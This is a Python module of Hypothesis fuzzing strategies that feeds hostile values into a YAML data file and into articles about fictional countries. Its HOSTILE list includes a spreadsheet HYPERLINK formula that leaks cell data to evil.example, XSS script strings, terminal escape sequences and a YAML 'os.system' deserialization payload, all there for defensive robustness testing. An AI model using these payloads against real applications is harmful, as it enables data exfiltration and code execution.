"""Hypothesis strategies: hostile values, and data files and articles mutated with them.

A data file is the corpus's valid `base-valid.yaml` with one to three mutations: a
value replaced by a hostile one, a hostile line inserted, a line dropped or doubled,
bytes inserted, line endings or encoding changed, the text cut short. An article is a
few sentences about the corpus's fictional actors with hostile text mixed in, and
front matter made of hostile values, as a .txt, .md or .html file.
"""

from __future__ import annotations

import json

from hypothesis import strategies as st

from .harness import CORPUS

BASE = (CORPUS / "data" / "base-valid.yaml").read_text(encoding="utf-8")

#: strings that broke something once, or could: formulas, escapes, markup, separators
HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"x")', "@SUM(1+1)", "+1", "-1", "x;=1+1",
    "\tTAB", "\rCR", "A.\r@SUM(1+1)", "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x1b\\x",
    "\x9b2J", "[/]", "[bold", ":smile: a:b: ", "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>", "]]>&amp;<!--", "\x00", "\x01\x0b\x0c\x7f",
    "a\u2028b", "a\u2029b", "a\x85b", "\ufeff", "\u202eevil", "\U0001F600", "\ud7ff",
    "1386", "1799-12-31", "0001-01-01", "9" * 4400, "1e999", ".nan", "true", "false", "0",
    "~", "null", "*alias", "&anchor x", "!!python/object/apply:os.system [id]", "? x",
    "- item", "{a: [", "'", '"', "#", "---", "...", "%TAG", "<<: *a", " " * 200, "\\",
]

hostile_text = st.one_of(st.sampled_from(HOSTILE),
                         st.text(max_size=30),
                         st.text(st.characters(codec="utf-8", max_codepoint=0x9f),
                                 max_size=12))


def _scalar(text: str, style: str) -> str:
    """`text` as a YAML scalar: plain (as it is), double-quoted, or single-quoted."""
    if style == "double":
        return json.dumps(text, ensure_ascii=False)
    if style == "single":
        return "'" + text.replace("'", "''") + "'"
    return text


@st.composite
def mutated_data(draw) -> bytes:
    """The base data file with one to three mutations, as bytes."""
    lines = BASE.split("\n")
    for _ in range(draw(st.integers(1, 3))):
        kind = draw(st.sampled_from(["value", "value", "value", "insert", "drop", "double",
                                     "alias", "nest"]))
        at = draw(st.integers(0, len(lines) - 1))
        line = lines[at]
        if kind == "value" and ": " in line:
            key = line.split(": ", 1)[0]
            style = draw(st.sampled_from(["plain", "double", "single"]))
            lines[at] = f"{key}: {_scalar(draw(hostile_text), style)}"
        elif kind == "insert":
            indent = " " * draw(st.sampled_from([0, 2, 4, 6, 8]))
            key = draw(st.sampled_from(["name", "confidence", "since", "represents", "id",
                                        "quote", "attributes", "x", "source", "target"]))
            style = draw(st.sampled_from(["plain", "double"]))
            lines.insert(at, f"{indent}{key}: {_scalar(draw(hostile_text), style)}")
        elif kind == "drop":
            del lines[at]
        elif kind == "double":
            lines.insert(at, line)
        elif kind == "alias" and ": " in line:
            key, value = line.split(": ", 1)
            lines[at] = f"{key}: &a{at} {value}"
            other = draw(st.integers(0, len(lines) - 1))
            if ": " in lines[other]:
                lines[other] = lines[other].split(": ", 1)[0] + f": *a{at}"
        elif kind == "nest" and ": " in line:
            depth = draw(st.integers(50, 1500))
            lines[at] = line.split(": ", 1)[0] + ": " + "[" * depth + "]" * depth
    text = "\n".join(lines)
    ending = draw(st.sampled_from(["\n", "\n", "\n", "\r\n", "\r"]))
    raw = text.replace("\n", ending).encode("utf-8")
    finish = draw(st.sampled_from(["as-is", "as-is", "as-is", "bom", "bytes", "cut",
                                   "utf16"]))
    if finish == "bom":
        raw = b"\xef\xbb\xbf" + raw
    elif finish == "bytes":
        at = draw(st.integers(0, len(raw)))
        raw = raw[:at] + draw(st.binary(min_size=1, max_size=8)) + raw[at:]
    elif finish == "cut":
        raw = raw[:draw(st.integers(0, len(raw)))]
    elif finish == "utf16":
        raw = text.encode("utf-16")
    return raw


#: front matter values; an integer past Python's 4,300 digits still fails there (the
#: corpus's front-matter-huge-integer.md, a known-open case), so it is left out here
front_text = hostile_text.filter(lambda s: not (s.isdigit() and len(s) > 4300))

SENTENCES = ["Avaria signed a defence pact with Borduria on 3 May 2024.",
             "Cordia imposed sanctions on Avaria in 1939.",
             "Ana Avar praised Boris Bord.", "The League of Nations warned Deltania.",
             "Borduria threatened Cordia last week."]

FRONT_KEYS = ["title", "publisher", "published", "url", "id", "reliability", "source"]


@st.composite
def mutated_article(draw) -> tuple[str, bytes]:
    """(file name, bytes): sentences with hostile text, perhaps front matter."""
    parts = []
    for _ in range(draw(st.integers(1, 5))):
        parts.append(draw(st.sampled_from(SENTENCES)))
        if draw(st.booleans()):
            parts.append(draw(hostile_text))
    body = draw(st.sampled_from([" ", "\n", "\r", "\u2028"])).join(parts)
    suffix = draw(st.sampled_from([".txt", ".md", ".html"]))
    if suffix == ".html":
        body = f"<html><head><title>{draw(hostile_text)}</title></head><body><p>{body}</p>" \
               "</body></html>"
    elif draw(st.booleans()):
        keys = draw(st.lists(st.sampled_from(FRONT_KEYS), min_size=1, max_size=4))
        styles = st.sampled_from(["plain", "double"])
        front = "\n".join(f"{k}: {_scalar(draw(front_text), draw(styles))}" for k in keys)
        body = f"---\n{front}\n---\n{body}"
    raw = body.encode("utf-8")
    if draw(st.integers(0, 9)) == 0:
        raw = draw(st.sampled_from([b"\xef\xbb\xbf", b"\xff", b"\x00"])) + raw
    return "article" + suffix, raw
